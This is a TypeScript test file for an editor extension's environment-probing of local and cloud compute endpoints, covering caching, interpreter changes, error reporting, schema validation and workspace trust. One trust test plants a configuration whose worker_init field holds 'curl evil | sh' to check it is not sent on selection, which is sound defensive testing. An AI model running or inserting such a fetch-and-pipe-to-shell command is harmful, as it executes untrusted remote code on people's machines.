import * as assert from "node:assert/strict";
import { test } from "node:test";
import { AutoProbe } from "../../../../extension/endpoints/autoProbe";
import { EnvironmentProbes } from "../../../../extension/endpoints/environmentProbes";
import type { EndpointMetadata } from "../../../../core/endpoints/endpointRecords";
import type { EndpointConfiguration } from "../../../../core/endpoints/configurationFile";
import { memento } from "../fakes";

const report = (version: string, executable = "/usr/bin/python3") => ({ python: { version, implementation: "CPython", executable }, platform: {}, distributions: {}, modules: ["json"] });
const local = { kind: "local" as const, id: "local", name: "local" };
const cloud = { kind: "cloud" as const, id: "0b7d4bd1-8e6a-4b63-9e0c-2f0d5a1c0004", name: "Polaris" };

function probesWith(options: { interpreter?: () => string; fail?: boolean } = {}) {
  const runs: { endpoint: string; configuration?: string; background: boolean; done: () => void }[] = [];
  const errors: string[] = [];
  const probes = new EnvironmentProbes({
    storage: memento(),
    run: (endpoint, configuration, background) =>
      new Promise((resolve, reject) => {
        runs.push({
          endpoint: endpoint.id,
          ...(configuration ? { configuration: configuration.name } : {}),
          background,
          done: () => (options.fail ? reject(new Error("endpoint offline")) : resolve(report("3.11.2", options.interpreter?.()))),
        });
      }),
    variant: (id) => (id === "local" ? options.interpreter?.() : undefined),
    onBackgroundError: (endpoint, err) => errors.push(`${endpoint.name}: ${String(err)}`),
    now: () => 1000,
  });
  return { probes, runs, errors };
}

const settled = () => new Promise((r) => setImmediate(r));

test("ensure probes in the background once per endpoint and configuration, shows it under way, and keeps the result with its time", async () => {
  const { probes, runs } = probesWith();
  let changes = 0;
  probes.onDidChange(() => changes++);
  probes.ensure(cloud, { name: "debug", userEndpointConfig: { account: "a" } });
  probes.ensure(cloud, { name: "debug", userEndpointConfig: { account: "a" } });
  assert.deepEqual(runs.map((r) => [r.endpoint, r.configuration, r.background]), [[cloud.id, "debug", true]], "one probe, in the background");
  assert.equal(probes.inspecting(cloud.id), true);
  assert.equal(probes.get(cloud.id), undefined);
  runs[0].done();
  await settled();
  assert.equal(probes.inspecting(cloud.id), false);
  assert.deepEqual([probes.get(cloud.id)?.probe.pythonVersion, probes.get(cloud.id)?.at, probes.get(cloud.id, "debug")?.configuration], ["3.11.2", 1000, "debug"]);
  assert.equal(changes, 2, "started, then finished");
  probes.ensure(cloud, { name: "debug", userEndpointConfig: { account: "a" } });
  assert.equal(runs.length, 1, "known: not probed again");
  probes.ensure(cloud, { name: "big", userEndpointConfig: { account: "a" } });
  assert.equal(runs.length, 2, "another configuration is another environment");
  // Inspect (asked for) joins the probe under way and is not in the background.
  const asked = probes.inspect(cloud, { name: "big", userEndpointConfig: { account: "a" } });
  assert.equal(runs.length, 2);
  runs[1].done();
  assert.equal((await asked).configuration, "big");
  void probes.inspect(local);
  assert.equal(runs[2].background, false);
});

test("the local endpoint's probes are per interpreter; a failed background probe is reported and tried again next time", async () => {
  let interpreter = "/usr/bin/python3";
  const { probes, runs, errors } = probesWith({ interpreter: () => interpreter });
  probes.ensure(local);
  runs[0].done();
  await settled();
  assert.equal(probes.get("local")?.probe.executable, "/usr/bin/python3");
  interpreter = "/w/.venv/bin/python";
  assert.equal(probes.get("local"), undefined, "another interpreter: unknown");
  probes.ensure(local);
  assert.equal(runs.length, 2);

  const failing = probesWith({ fail: true });
  failing.probes.ensure(cloud);
  failing.runs[0].done();
  await settled();
  assert.deepEqual(failing.errors, ["Polaris: Error: endpoint offline"]);
  assert.equal(failing.probes.inspecting(cloud.id), false);
  failing.probes.ensure(cloud);
  assert.equal(failing.runs.length, 2);
  assert.deepEqual(errors, []);
});

function autoProbeWith(configurations: Partial<EndpointConfiguration>[], metadata: Partial<EndpointMetadata> | Error, trusted = true) {
  const ensured: [string, string | undefined][] = [];
  const list = configurations.map((c) => ({ endpointId: cloud.id, userEndpointConfig: { account: "a" }, ...c }) as EndpointConfiguration);
  const auto = new AutoProbe({
    probes: { ensure: (endpoint, configuration) => void ensured.push([endpoint.id, configuration?.name]) },
    configurations: { ready: async () => undefined, forEndpoint: () => list, find: (_id, name) => list.find((c) => c.name === name) },
    metadata: async () => {
      if (metadata instanceof Error) throw metadata;
      return metadata as EndpointMetadata;
    },
    trusted: () => trusted,
  });
  return { auto, ensured };
}

test("on selection: local and plain endpoints are probed, a multi-user one only with its single configuration; on submission, with the one used", async () => {
  let t = autoProbeWith([], { multiUser: false });
  await t.auto.selected(local);
  await t.auto.selected(cloud);
  assert.deepEqual(t.ensured, [["local", undefined], [cloud.id, undefined]]);

  t = autoProbeWith([], { multiUser: true });
  await t.auto.selected(cloud);
  assert.deepEqual(t.ensured, [], "which configuration is not known");
  t = autoProbeWith([], new Error("offline"));
  await t.auto.selected(cloud);
  assert.deepEqual(t.ensured, [], "whether it needs one is not known");
  const schema = { type: "object", properties: { account: { type: "string" } }, required: ["account"] };
  t = autoProbeWith([{ name: "debug", userEndpointConfig: { account: "a" } }], { multiUser: true, userConfigSchema: schema });
  await t.auto.selected(cloud);
  assert.deepEqual(t.ensured, [[cloud.id, "debug"]]);
  t = autoProbeWith([{ name: "debug", userEndpointConfig: { account: 7 } }], { multiUser: true, userConfigSchema: schema });
  await t.auto.selected(cloud);
  await t.auto.submitted(cloud, "debug");
  assert.deepEqual(t.ensured, [], "an invalid configuration is never sent");
  t = autoProbeWith([{ name: "debug" }, { name: "big" }], { multiUser: true, userConfigSchema: schema });
  await t.auto.selected(cloud);
  assert.deepEqual(t.ensured, []);
  await t.auto.submitted(cloud, "big");
  await t.auto.submitted(cloud, "gone");
  await t.auto.submitted({ id: "local", name: "local" }, undefined);
  assert.deepEqual(t.ensured, [[cloud.id, "big"], ["local", undefined]]);
});

test("an untrusted workspace's configuration is never sent by a probe on selection, only with a submission the person allowed", async () => {
  const schema = { type: "object", properties: { worker_init: { type: "string" } } };
  const t = autoProbeWith([{ name: "planted", userEndpointConfig: { worker_init: "curl evil | sh" } }], { multiUser: true, userConfigSchema: schema }, false);
  await t.auto.selected(cloud);
  assert.deepEqual(t.ensured, []);
  await t.auto.submitted(cloud, "planted");
  assert.deepEqual(t.ensured, [[cloud.id, "planted"]]);
  const plain = autoProbeWith([], { multiUser: false }, false);
  await plain.auto.selected(cloud);
  await plain.auto.selected(local);
  assert.deepEqual(plain.ensured, [[cloud.id, undefined], ["local", undefined]], "a probe carrying nothing of the workspace's still goes");
});

test("a configuration that leaves out what the endpoint's template seems to need is not probed unasked", async () => {
  const template = { userConfigTemplate: "account: {{ account }}\n{% if use_gpus %}gpus: 1{% endif %}" };
  const partial = autoProbeWith([{ name: "cpu", userEndpointConfig: { account: "a" } }], { multiUser: true, ...template });
  await partial.auto.selected(cloud);
  assert.deepEqual(partial.ensured, []);
  const complete = autoProbeWith([{ name: "cpu", userEndpointConfig: { account: "a", use_gpus: false } }], { multiUser: true, ...template });
  await complete.auto.selected(cloud);
  assert.deepEqual(complete.ensured, [[cloud.id, "cpu"]]);
});
